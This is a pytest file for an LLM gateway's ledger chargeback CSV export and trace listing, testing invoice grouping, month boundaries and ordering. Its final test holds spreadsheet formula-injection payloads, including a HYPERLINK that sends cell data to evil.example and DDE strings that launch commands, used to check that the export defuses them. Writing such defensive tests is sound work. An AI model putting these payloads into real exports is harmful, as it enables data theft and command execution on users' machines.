"""Chargeback views of the ledger (gateway/storage/chargeback.py) over a real SQLite ledger:
a month's invoice lines — one per team, model and whole tag set, so every request's cost lands
on exactly one line — and one trace's calls in order."""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import insert
from sqlalchemy.ext.asyncio import AsyncEngine

from gateway.core.context import Principal
from gateway.storage.chargeback import CSV_HEADER, chargeback_csv, trace
from gateway.storage.db import create_engine, create_tables, ledger, teams
from gateway.storage.ledger import LedgerRow
from policies.pricing import Bill, Usage
from tests.gateway.fakes import TEAM_A, request

TEAM_B = Principal("team_b1", "team-b", "key_b1")
NOV = datetime(2026, 11, 10, 12, tzinfo=UTC).timestamp()


def row(
    n: int,
    principal: Principal | None,
    model: str | None,
    tags: tuple[str, ...] = (),
    cost: str = "0.001",
    at: float = NOV,
    served: bool = True,
    trace_id: str | None = None,
    saved: str = "0",
) -> LedgerRow:
    ctx = request(
        principal=principal,
        requested_model=model or "",
        tags=tags,
        trace_id=trace_id,
        served_model=model if served else None,
        created_at=at,
    )
    ctx.request_id = f"req_{n}"
    ctx.meter.add_call("small", Usage(100, 10), Bill(Decimal(cost)))
    ctx.meter.saved = Decimal(saved)
    if not served:
        ctx.outcome.status_code, ctx.outcome.error = 402, "over budget"
    return LedgerRow.from_context(ctx)


@pytest.fixture
async def db(tmp_path: Path) -> AsyncIterator[AsyncEngine]:
    engine = create_engine(f"sqlite:///{tmp_path / 'ledger.db'}")
    await create_tables(engine)
    async with engine.begin() as conn:
        await conn.execute(
            insert(teams),
            [
                {"id": TEAM_A.team_id, "name": TEAM_A.team_name, "created_at": 0},
                {"id": TEAM_B.team_id, "name": TEAM_B.team_name, "created_at": 0},
            ],
        )
    yield engine
    await engine.dispose()


async def put(engine: AsyncEngine, *rows: LedgerRow) -> None:
    async with engine.begin() as conn:
        await conn.execute(insert(ledger), [r.as_dict() for r in rows])


def lines(text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text))
    assert reader.fieldnames == CSV_HEADER
    return list(reader)


async def test_one_line_per_team_model_and_whole_tag_set(db: AsyncEngine) -> None:
    await put(
        db,
        row(1, TEAM_A, "small", ("app", "env=prod")),
        row(2, TEAM_A, "small", ("app", "env=prod")),
        row(3, TEAM_A, "small"),
        row(4, TEAM_A, "small", ("app",), saved="0.002"),
        row(5, TEAM_A, "large", ("app", "env=prod"), cost="0.05"),
        row(6, TEAM_B, "small", cost="0.2"),
    )
    got = {(r["team"], r["model"], r["tags"]): r for r in lines(await chargeback_csv(db, "2026-11"))}
    assert set(got) == {
        ("team-a", "small", "app+env=prod"),
        ("team-a", "small", ""),
        ("team-a", "small", "app"),
        ("team-a", "large", "app+env=prod"),
        ("team-b", "small", ""),
    }
    both = got[("team-a", "small", "app+env=prod")]
    assert (both["month"], both["team_id"], both["requests"]) == ("2026-11", "team_a1", "2")
    assert (both["prompt_tokens"], both["completion_tokens"], both["cost_usd"]) == ("200", "20", "0.002")
    assert got[("team-a", "small", "app")]["saved_usd"] == "0.002"
    # a team's lines add up to its spend: each request on exactly one line
    team_a = sum(Decimal(r["cost_usd"]) for k, r in got.items() if k[0] == "team-a")
    assert team_a == Decimal("0.054")


async def test_only_the_months_utc_days_count(db: AsyncEngine) -> None:
    last_of_october = datetime(2026, 10, 31, 23, 59, 59, tzinfo=UTC).timestamp()
    first_of_november = datetime(2026, 11, 1, tzinfo=UTC).timestamp()
    first_of_december = datetime(2026, 12, 1, tzinfo=UTC).timestamp()
    await put(
        db,
        row(1, TEAM_A, "small", at=last_of_october),
        row(2, TEAM_A, "small", at=first_of_november),
        row(3, TEAM_A, "small", at=first_of_december),
    )
    [line] = lines(await chargeback_csv(db, "2026-11"))
    assert line["requests"] == "1"
    assert lines(await chargeback_csv(db, "2027-01")) == []


async def test_a_refused_request_is_billed_under_the_model_it_asked_for(db: AsyncEngine) -> None:
    await put(db, row(1, TEAM_A, "large", served=False, cost="0"))
    [line] = lines(await chargeback_csv(db, "2026-11"))
    assert (line["model"], line["requests"], line["cost_usd"]) == ("large", "1", "0")


async def test_a_team_deleted_or_unknown_keeps_its_id(db: AsyncEngine) -> None:
    gone = dataclasses.replace(TEAM_A, team_id="team_gone")
    await put(db, row(1, gone, "small"))
    [line] = lines(await chargeback_csv(db, "2026-11"))
    assert (line["team_id"], line["team"]) == ("team_gone", "")


async def test_the_costliest_team_comes_first(db: AsyncEngine) -> None:
    cheap = dataclasses.replace(TEAM_A, team_id="team_0")  # sorts before team_b1 by id
    await put(
        db,
        row(1, cheap, "small", cost="0.001"),
        row(2, TEAM_B, "small", cost="3"),
        row(3, TEAM_B, "large", cost="2"),  # the team's total counts, not its costliest line
        row(4, cheap, "large", cost="4"),
    )
    assert [(r["team_id"], r["model"]) for r in lines(await chargeback_csv(db, "2026-11"))] == [
        ("team_b1", "large"),
        ("team_b1", "small"),
        ("team_0", "large"),
        ("team_0", "small"),
    ]


async def test_a_trace_lists_its_calls_in_order_with_their_costs(db: AsyncEngine) -> None:
    await put(
        db,
        row(2, TEAM_A, "large", trace_id="order-7", at=NOV + 2, cost="0.03"),
        row(1, TEAM_B, "small", trace_id="order-7", at=NOV + 1, cost="0.0001"),
        row(3, TEAM_A, "small", trace_id="other", at=NOV + 3),
    )
    calls = await trace(db, "order-7")
    assert [c.request_id for c in calls] == ["req_1", "req_2"]
    assert [c.cost_usd for c in calls] == [Decimal("0.0001"), Decimal("0.03")]
    first = calls[0].json()
    assert (first["team_id"], first["model"], first["cost_usd"], first["status"]) == ("team_b1", "small", "0.0001", 200)
    assert await trace(db, "nobody") == []


HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    'a","=1',  # a quote and a separator inside must not open a cell of their own
]


async def test_no_cell_a_spreadsheet_runs_and_numbers_stay_numbers(db: AsyncEngine) -> None:
    """Team names, tags and model names are chosen by teams; none comes out as a formula, and
    the number cells (a negative saving among them) stay bare numbers."""
    hostile_teams = [Principal(f"team_h{i}", name, f"key_h{i}") for i, name in enumerate(HOSTILE_TEXT)]
    async with db.begin() as conn:
        await conn.execute(
            insert(teams), [{"id": p.team_id, "name": p.team_name, "created_at": 0} for p in hostile_teams]
        )
    await put(
        db,
        *[row(i, p, HOSTILE_TEXT[i], (HOSTILE_TEXT[-1 - i],)) for i, p in enumerate(hostile_teams)],
        row(99, TEAM_A, "small", saved="-0.003", cost="0.5"),
    )
    text = await chargeback_csv(db, "2026-11")
    parsed = list(csv.reader(io.StringIO(text)))
    assert len(parsed) == 1 + len(HOSTILE_TEXT) + 1
    assert all(len(cells) == len(CSV_HEADER) for cells in parsed)
    for cells in parsed[1:]:
        for cell in cells[:5]:  # month, team_id, team, model, tags
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
    got = {(r["team"], r["model"]) for r in lines(text)}
    assert ("'" + HOSTILE_TEXT[0], "'" + HOSTILE_TEXT[0]) in got  # kept, only defused
    assert (HOSTILE_TEXT[-1], HOSTILE_TEXT[-1]) in got  # not a formula: left as it was
    # bare, unquoted numbers: a spreadsheet reads them as numbers, the negative one too
    [team_a_line] = [line for line in text.splitlines() if '"team_a1"' in line]
    assert team_a_line.endswith(",1,100,10,0.5,-0.003")
